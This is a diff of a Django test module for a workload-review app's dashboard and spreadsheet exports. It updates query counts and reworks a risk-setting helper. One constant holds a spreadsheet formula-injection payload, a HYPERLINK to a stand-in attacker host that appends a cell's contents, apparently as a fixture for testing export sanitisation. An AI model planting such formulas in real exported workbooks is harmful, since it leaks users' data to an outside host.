@@ -28,7 +28,7 @@ from reviews.services import (
 )
 from reviews.views.dashboard import PER_PAGE
 from reviews.workbooks import CELL_LIMIT, CONTENT_TYPE, CUT, safe_text, sheet_title
-from tests.factories import lens_bytes
+from tests.factories import answers_set_risk, lens_bytes
 
 # session, user, workload, its lens reviews; the snapshots: pillars, questions, choices, answers
 # with their choice rows and items (one query), pillar notes; the workload's profile; the line in
@@ -37,7 +37,7 @@ ANSWERS_QUERIES = 11
 PLAN_QUERIES = (
     12  # session, user, lens review, the snapshot (5), open items, profile, activity line
 )
-DASHBOARD_QUERIES = 8  # session, user, and the dashboard's partial without the form's choices
+DASHBOARD_QUERIES = 11  # session, user, and the dashboard's data (reviews.dashboard.portfolio)
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
 
 
@@ -387,11 +387,14 @@ def make_workload(owner, name, *, environment="PRODUCTION", tags=None):
 
 def set_risks(workload, **risks):
     for question_id, risk in risks.items():
-        Answer.objects.filter(
-            lens_review__workload=workload,
-            lens_review__lens__alias="wellarchitected",
-            question__question_id=question_id,
-        ).update(risk=risk)
+        answers_set_risk(
+            Answer.objects.filter(
+                lens_review__workload=workload,
+                lens_review__lens__alias="wellarchitected",
+                question__question_id=question_id,
+            ),
+            risk,
+        )
 
 
 def test_the_dashboard_workbook_lists_every_workload_riskiest_first(
